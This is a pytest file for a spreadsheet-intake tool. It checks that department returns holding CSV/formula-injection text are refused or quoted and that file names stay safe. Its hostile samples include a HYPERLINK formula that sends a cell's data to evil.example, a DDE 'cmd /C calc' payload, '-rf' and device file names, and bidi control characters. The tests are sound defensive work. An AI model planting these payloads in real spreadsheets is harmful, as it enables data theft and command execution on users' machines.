"""Hostile returns: what a department writes into its workbook must not become a formula, a broken file
name or a crash in what the office publishes (docs/security/text.md).

Each writer runs through its real command or function on hostile text built here, then every workbook
it wrote is opened as a zip: no ``<f>`` element in any sheet, the hostile text there as text; every CSV
cell that begins like a formula starts with ``'``. Control characters in a unit's id or name are a
located error; a 300-character unit name gives file names of at most 255 bytes.
"""
from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

import xinyong
from xinyong.cli import main
from xinyong.intake import UnitRow, build_template, read_inputs, save_workbook, write_template
from xinyong.intake.review_workbook import write_review
from xinyong.intake.submission import collect, read_manifest, split
from xinyong.safe import csv_bytes, csv_cell, csv_unquote, formula_like, safe_file_name, temp_prefix

from conftest import MINI

PERIOD = "2019"
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"详情")'
# the cases of the issue: a formula, one behind a blank, a DDE call behind a tab, and the other
# characters a spreadsheet starts a formula with
HOSTILE = [HYPERLINK, " =1+1", "\t=cmd|' /C calc'!A0", "+1", "-1+1", "@SUM(1)", "\r=1"]
# the ones the reader takes as text (the others it refuses as formulas)
ACCEPTED = ["+1", "-1+1", "@SUM(1)"]
FORMULA = re.compile(rb"<(?:\w+:)?f[\s>/]")
DANGER = ("=", "+", "-", "@")
CSV_HEADER = ["unit_id", "unit_name", "unit_kind", "npl_rate", "has_a", "has_b", "approved", "total_depts",
              "share", "events"]


@pytest.fixture(scope="module")
def scheme():
    return xinyong.load_scheme(MINI)


def formulas_in(path: Path) -> list[str]:
    """The sheets of the workbook at ``path`` that hold a formula element."""
    with zipfile.ZipFile(path) as z:
        return [n for n in z.namelist() if n.startswith("xl/worksheets/") and FORMULA.search(z.read(n))]


def texts_in(path: Path) -> set[str]:
    """Every text cell of the workbook at ``path`` (openpyxl reads a text cell as the text it holds)."""
    wb = openpyxl.load_workbook(path)
    return {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)}


def assert_no_formula(path: Path, present: list[str] = ()) -> None:
    assert path.suffix == ".xlsx"
    assert formulas_in(path) == [], path.name
    got = texts_in(path)
    for s in present:
        assert any(s in t for t in got), (path.name, s)


def csv_cells(path: Path) -> list[str]:
    text = path.read_bytes().decode("utf-8-sig")
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def assert_csv_neutral(path: Path, present: list[str] = ()) -> None:
    """No cell of the CSV at ``path`` begins like a formula unless it begins with ``'``; each of
    ``present`` is in some cell, quoted."""
    cells = csv_cells(path)
    for c in cells:
        if c and c[0] != "'":
            assert c[0] not in ("\t", "\r") and c.lstrip()[:1] not in DANGER, (path.name, c)
    for s in present:
        assert any(c == "'" + s or (c.startswith("'") and s in c) for c in cells), (path.name, s)


def units_csv(path: Path, rows: list[tuple[str, str, str]]) -> Path:
    with open(path, "w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["单位编号", "单位名称", "单位类型"])
        w.writerows(rows)
    return path


def data_csv(path: Path, rows: list[list[str]]) -> Path:
    with open(path, "w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(CSV_HEADER)
        w.writerows(rows)
    return path


def row(uid: str, name: str, **values: str) -> list[str]:
    base = {"unit_kind": "城市", "npl_rate": "2.6", "has_a": "是", "has_b": "是", "approved": "3",
            "total_depts": "5", "share": "70", "events": "1"}
    base.update(values)
    return [uid, name] + [base[k] for k in CSV_HEADER[2:]]


# ------------------------------------------------------------------------------------------ the rules
def test_csv_cell_quotes_text_that_begins_like_a_formula_and_leaves_numbers():
    """OWASP "CSV injection": a cell beginning with = + - @, tab or carriage return is prefixed with '.
    A number is a number (-5 stays -5); a text "-5" is text and is quoted; what was written reads back
    exactly (csv_unquote, which the CSV reader applies)."""
    for s in HOSTILE + ["-5", "\u202e=1", "  @x"]:
        assert csv_cell(s) == "'" + s and csv_unquote(csv_cell(s)) == s
    for v in (-5, -5.5, 0, 3.0, None, True):
        assert csv_cell(v) is v
    for s in ("甲市", "a-b", "1+1", "", "'", "'abc", "=", "x=1"):
        assert csv_cell(s) == s or s == "=", s
    for s in ("'=1", "''+2", "'-5"):  # quotes already there are kept, one more is added
        assert csv_cell(s) == "'" + s and csv_unquote(csv_cell(s)) == s
    data = csv_bytes([["a", -5, "-5", HYPERLINK]], encoding="utf-8")
    assert data.decode() == "a,-5,'-5,\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"详情\"\")\"\r\n"


def test_formula_like_strips_blanks_and_invisible_characters():
    for s in (" =1+1", "\t=cmd|' /C calc'!A0", "\r=1", "\u202e=1", "\x00=1", HYPERLINK):
        assert formula_like(s), repr(s)
    for s in ("=", " =", "+1", "-1+1", "@SUM(1)", "a=1", 1, None):
        assert not formula_like(s), repr(s)


@pytest.mark.parametrize("text", [
    "长" * 300, ".hidden", "..", "-rf", "CON", "nul.txt", "a\u202etxt.exe", "x\x00y\x07z", "a/b\\c:d*?\"<>|", "end. ",
])
@pytest.mark.parametrize("plain", [False, True])
def test_safe_file_name(text, plain, tmp_path):
    """One function for every file name made from text: at most max_bytes UTF-8 bytes (a Chinese
    character is three), never hidden or an option, no Windows device name, no invisible character;
    the file can be created."""
    name = safe_file_name(text, 120, plain=plain)
    assert 0 < len(name.encode("utf-8")) <= 120
    assert name[0] not in ".-" and not name.endswith((".", " "))
    assert not re.search(r'[\\/:*?"<>|\x00-\x1f\x7f\u202a-\u202e\u2066-\u2069]', name)
    assert name.split(".")[0].upper() not in {"CON", "PRN", "AUX", "NUL"}
    if plain:
        assert re.fullmatch(r"[\w\-]+", name)
    (tmp_path / (name + ".xlsx")).write_bytes(b"x")
    assert len(temp_prefix("长" * 300).encode("utf-8")) <= 64


# ------------------------------------------------------------------------------------------ the reader
@pytest.mark.parametrize("text", [" =1+1", "\t=cmd|' /C calc'!A0", "\r=1", "\u202e=1+1"])
def test_reader_refuses_formula_text_behind_blanks(scheme, tmp_path, text):
    """The reader refused a leading '=' only; the same text behind a blank, a tab or an invisible
    character is refused as a formula too, at its cell (file, row, column)."""
    path = data_csv(tmp_path / "d.csv", [row("u1", "甲市", npl_rate=text)])
    res = read_inputs(scheme, path)
    (p,) = [p for p in res.errors if "公式" in p.message]
    assert (p.file, p.row, p.column, p.unit) == (str(path), 2, "D", "u1")
    # as the workbook text cell a crafted return holds (written by openpyxl, not by xinyong)
    wb = build_template(scheme, PERIOD, [UnitRow("u1", "甲市", "城市")])
    wb["输入"]["B4"].value = text
    wb["输入"]["B4"].data_type = "s"
    wb.save(tmp_path / "d.xlsx")
    res = read_inputs(scheme, tmp_path / "d.xlsx")
    (p,) = [p for p in res.errors if "公式" in p.message]
    assert (p.sheet, p.row, p.column) == ("输入", 4, "B")


def test_a_large_sheet_is_checked_for_formula_text_too(scheme, tmp_path):
    """A sheet of 1,000 rows or more is read by calamine when plain; a text that would be refused as a
    formula sends it to the parser that lists such cells, so a large 单位 sheet cannot carry one."""
    units = [UnitRow(f"u{k}", f"单位{k}", "城市") for k in range(1200)]
    wb = build_template(scheme, PERIOD, units)
    wb.save(tmp_path / "big.xlsx")  # openpyxl's own save: the hostile name stays a text cell
    wb = openpyxl.load_workbook(tmp_path / "big.xlsx")
    wb["单位"]["B900"].value = " =1+1"
    wb["单位"]["B900"].data_type = "s"
    wb.save(tmp_path / "big.xlsx")
    res = read_inputs(scheme, tmp_path / "big.xlsx")
    assert [(p.sheet, p.row, p.column) for p in res.errors if "公式" in p.message] == [("单位", 900, "B")]


@pytest.mark.parametrize("bad", ["\x00", "\x07", "\u202e", "\x1b", "\x7f", "\u2066"])
def test_control_characters_in_a_unit_name_are_a_located_error(scheme, tmp_path, bad):
    """A control character or a bidi override in a unit's name (单位 sheet, or a CSV's unit_name) is an
    error naming the file, sheet, row and column, the character and its place; nothing crashes and the
    name is not carried on."""
    name = f"甲{bad}市"
    path = data_csv(tmp_path / "d.csv", [row("u1", "乙市"), row("u2", name)])
    res = read_inputs(scheme, path)
    (p,) = [p for p in res.errors if "控制字符" in p.message]
    assert (p.file, p.row, p.column, p.unit) == (str(path), 3, "B", "u2")
    assert f"U+{ord(bad):04X}" in p.message and "第 2 个字符" in p.message
    assert bad not in p.value and bad not in p.message  # shown as \x07, \u202e: printable anywhere
    assert res.frame.at["u2", "unit_name"] is None or str(res.frame.at["u2", "unit_name"]) in ("<NA>", "")
    if bad in "\x00\x07\x1b\x7f":
        return  # XML cannot hold these: a workbook carries them only through a CSV-like route
    wb = build_template(scheme, PERIOD, [UnitRow("u1", "乙市", "城市"), UnitRow("u2", name, "城市")])
    src = save_workbook(wb, tmp_path / "d.xlsx")
    res = read_inputs(scheme, src)
    (p,) = [p for p in res.errors if "控制字符" in p.message]
    assert (p.file, p.sheet, p.row, p.column, p.unit) == (str(src), "单位", 3, "B", "u2")


def test_control_character_in_a_unit_id_is_the_files_error(scheme, tmp_path):
    """An id holding a control character is no unit's key anywhere downstream: the error belongs to the
    file (a batch then refuses the file with the located error instead of failing later)."""
    path = data_csv(tmp_path / "d.csv", [row("u\x07", "甲市")])
    res = read_inputs(scheme, path)
    (p,) = [p for p in res.errors if "控制字符" in p.message]
    assert (p.row, p.column, p.unit) == (2, "A", None) and p.value == "u\\x07"
    assert res.n_general_errors >= 1


def test_units_file_refuses_control_characters_with_their_place(scheme, tmp_path):
    from xinyong.errors import InputError
    from xinyong.intake.submission import read_units

    path = units_csv(tmp_path / "units.csv", [("u1", "甲市", "城市"), ("u2", "乙\x07市", "城市"),
                                               ("u\u202e3", "丙市", "城市")])
    with pytest.raises(InputError) as ei:
        read_units(path, scheme)
    got = sorted((p.row, p.column) for p in ei.value.problems if "控制字符" in p.message)
    assert got == [(3, "B"), (4, "A")]
    assert all(p.file == str(path) for p in ei.value.problems)


def test_units_file_refuses_a_formula_for_a_name(scheme, tmp_path):
    """units.csv (``template --split --units``, ``collect --units``): a name that is a formula is refused
    as one, at its cell — not reported as a blank name."""
    from xinyong.errors import InputError
    from xinyong.intake.submission import read_units

    path = units_csv(tmp_path / "units.csv", [("u1", " " + HYPERLINK, "城市"), ("u2", "乙市", "城市")])
    with pytest.raises(InputError) as ei:
        read_units(path, scheme)
    assert [(p.row, p.column, "公式" in p.message) for p in ei.value.problems] == [(2, "B", True)]


# ------------------------------------------------------------------------------------------ writers
def test_template_and_split_write_no_formula(scheme, tmp_path):
    """``xinyong template`` (the office's workbook) and ``template --split`` (one per unit, its 说明
    sheet naming the unit) with every hostile name: no formula in any sheet, the names there as text;
    the manifest 报送名单.csv quotes them, and reads back as written."""
    units = [UnitRow(f"u{k}", name, "城市") for k, name in enumerate(HOSTILE)]
    tpl = write_template(scheme, tmp_path / "template.xlsx", PERIOD, units)
    assert_no_formula(tpl, HOSTILE)
    res = split(scheme, PERIOD, units, tmp_path / "split")
    assert len(res.files) == len(HOSTILE)
    for uid, path in res.files.items():
        assert_no_formula(path, [units[int(uid[1:])].unit_name])
    assert_csv_neutral(res.manifest, HOSTILE)
    ok = [UnitRow(f"v{k}", name, "城市") for k, name in enumerate(ACCEPTED)]
    res = split(scheme, PERIOD, ok, tmp_path / "split2")
    m = read_manifest(res.folder, scheme)
    assert [u.unit_name for u in m.units] == ACCEPTED  # the quote comes off again


def test_split_command_with_a_300_character_name(tmp_path):
    """``xinyong template --split`` with a unit named by 300 Chinese characters (900 bytes), twice, among
    six units: every workbook and the manifest written, every file name at most 255 bytes, two names."""
    long = "很" * 300
    rows = [(f"d{k}", f"第{k}局", "城市") for k in range(4)] + [("d8", long, "城市"), ("d9", long, "开发区")]
    units = units_csv(tmp_path / "units.csv", rows)
    out = tmp_path / "填报表"
    assert main(["template", str(MINI), "--period", PERIOD, "--units", str(units), "--split", "-o", str(out)]) == 0
    files = sorted(p for p in out.rglob("*"))
    assert (out / "报送名单.csv").is_file() and len([p for p in files if p.suffix == ".xlsx"]) == 6
    assert all(len(p.name.encode("utf-8")) <= 255 for p in files)
    longs = [p for p in files if p.name.startswith("很很")]
    assert len(longs) == 2 and len({p.name.casefold() for p in longs}) == 2
    assert all(len(p.name.encode("utf-8")) + len("_证据".encode("utf-8")) <= 255 for p in longs)


def test_collect_receipts_and_merged_workbook(scheme, tmp_path):
    """``xinyong collect``: a return with a formula in a cell (refused at its cell), one named and with
    an evidence title beginning with '@', and a file naming a unit not in the manifest with a formula for its name (a
    receipt row of its own, named as the file names it): the merged workbook holds no formula, its
    报送情况 sheet and 报送情况.csv hold the hostile texts as text."""
    units = [UnitRow("u1", "甲市", "城市"), UnitRow("u2", "乙市", "城市")]
    sent = split(scheme, PERIOD, units, tmp_path / "sent")
    back = tmp_path / "back"
    back.mkdir()
    wb = openpyxl.load_workbook(sent.files["u1"])  # u1: a real formula in a number cell
    wb["输入"]["B4"] = "=1+1"
    wb.save(back / "u1.xlsx")
    wb = openpyxl.load_workbook(sent.files["u2"])  # u2: an evidence title beginning with '@'
    ws = wb["输入"]
    for j in range(2, ws.max_column + 1):
        ws.cell(4, j).value = {"npl_rate": 2.6, "has_a": "是", "approved": 3, "total_depts": 5}.get(ws.cell(1, j).value)
    ev = wb["证据"]
    ev["A2"], ev["C2"], ev["D2"], ev["E2"] = "mini.1.1", "@SUM(1)", "http://example.org/a.pdf", "2019-06-30"
    wb.save(back / "@u2.xlsx")  # a department names its file too
    wb = openpyxl.load_workbook(sent.files["u2"])  # a stranger, named by a formula (as text)
    wb["单位"]["A2"] = "x9"
    wb["单位"]["B2"].value = HYPERLINK
    wb["单位"]["B2"].data_type = "s"
    wb.save(back / "stranger.xlsx")
    out = tmp_path / "merged" / f"{PERIOD}.xlsx"
    res = collect(scheme, PERIOD, back, out, read_manifest(sent.folder, scheme))
    assert any(p.sheet == "输入" and p.row == 4 and p.column == "B" and "公式" in p.message for p in res.problems)
    assert_no_formula(out, [HYPERLINK, "@SUM(1)"])
    assert_csv_neutral(res.receipts_csv, [HYPERLINK, "@u2.xlsx"])
    assert read_inputs(scheme, out).evidence["title"].tolist() == ["@SUM(1)"]  # the merged file reads back


def test_validate_csv_quotes_the_refused_formulas(scheme, tmp_path):
    """``xinyong validate --csv``: the problem table's 值 column holds the refused formula texts; each
    is quoted."""
    data = data_csv(tmp_path / "d.csv", [row("u1", "甲市", npl_rate=" =1+1"), row("u2", "乙市", share="\t=cmd|' /C calc'!A0"),
                                         row("u3", "-1+1", approved="@SUM(1)")])
    out = tmp_path / "problems.csv"
    assert main(["validate", str(MINI), str(data), "--csv", str(out)]) == 2
    assert_csv_neutral(out, [" =1+1", "@SUM(1)"])
    assert "\\t=cmd|' /C calc'!A0" in csv_cells(out)  # a problem shows the tab as \t: printable anywhere


def test_review_workbook_keeps_names_as_text(scheme, tmp_path):
    """``xinyong review``: the names the reader accepts that begin like a formula (+ - @) are text cells
    with Excel's quote prefix, so editing the cell does not run them either."""
    wb = build_template(scheme, PERIOD, [UnitRow(f"u{k}", name, "城市") for k, name in enumerate(ACCEPTED)])
    data = save_workbook(wb, tmp_path / "data.xlsx")
    got = write_review(scheme, data, tmp_path / "review.xlsx", PERIOD)
    assert_no_formula(got.path, ACCEPTED)
    cells = [c for ws in openpyxl.load_workbook(got.path).worksheets for r in ws.iter_rows() for c in r
             if c.value in ACCEPTED]
    assert cells and all(c.quotePrefix and c.data_type == "s" for c in cells)


def test_batch_data_copy_reads_back_the_same_cells(scheme, tmp_path):
    """A batch reads a copy of a CSV without its invalid units; the copy goes through the CSV writer
    (hostile texts quoted) and reads back exactly as the file given."""
    from xinyong.batch.prepare import read_period

    data = data_csv(tmp_path / "d.csv", [row("u1", "-1+1"), row("u2", "@SUM(1)", has_a="也许"), row("u3", "+1")])
    pi = read_period(scheme, PERIOD, data, tmp_path / "work")
    assert set(pi.bad) == {"u2"} and pi.path != data.resolve()
    assert_csv_neutral(pi.path, ["-1+1", "+1"])
    back = read_inputs(scheme, pi.path)
    assert back.errors == [] and back.frame["unit_name"].tolist() == ["-1+1", "+1"]


# ------------------------------------------------------------------------------------------ a batch
@pytest.mark.slow
def test_batch_with_hostile_and_long_names(tmp_path):
    """``xinyong batch --format html,docx`` over units named by formula-like text, a 300-character name
    and a name with a control character: the last fails alone with its located error (no crash, the
    Word files of the others written); index, summary.json and scores.xlsx written; scores.xlsx holds no
    formula; every file name is at most 255 bytes."""
    long = "很长" * 150
    (tmp_path / "data").mkdir()
    data = data_csv(tmp_path / "data" / "d.csv",
                    [row("a", "+1"), row("b", "-1+1"), row("c", "@SUM(1)"), row("d", long), row("e", "丁\x07市")])
    out = tmp_path / "out"
    rc = main(["batch", "--scheme", str(MINI), "--period", PERIOD, "--data", str(data), "--out", str(out),
               "--jobs", "1", "--format", "html,docx"])
    run = out / "mini" / PERIOD
    s = json.loads((run / "summary.json").read_text(encoding="utf-8"))
    status = {u["id"]: u["status"] for u in s["units"]}
    assert rc == 1 and status == {"a": "ok", "b": "ok", "c": "ok", "d": "ok", "e": "failed"}
    (p,) = next(u for u in s["units"] if u["id"] == "e")["problems"]
    assert (p["row"], p["column"]) == (6, "B") and "U+0007" in p["message"]
    assert (out / "index.html").is_file() or (run / "index.html").is_file()
    assert_no_formula(run / "scores.xlsx", ["+1", "-1+1", "@SUM(1)", long])
    assert len(list(run.rglob("*.docx"))) >= 4
    assert all(len(p.name.encode("utf-8")) <= 255 for p in out.rglob("*"))
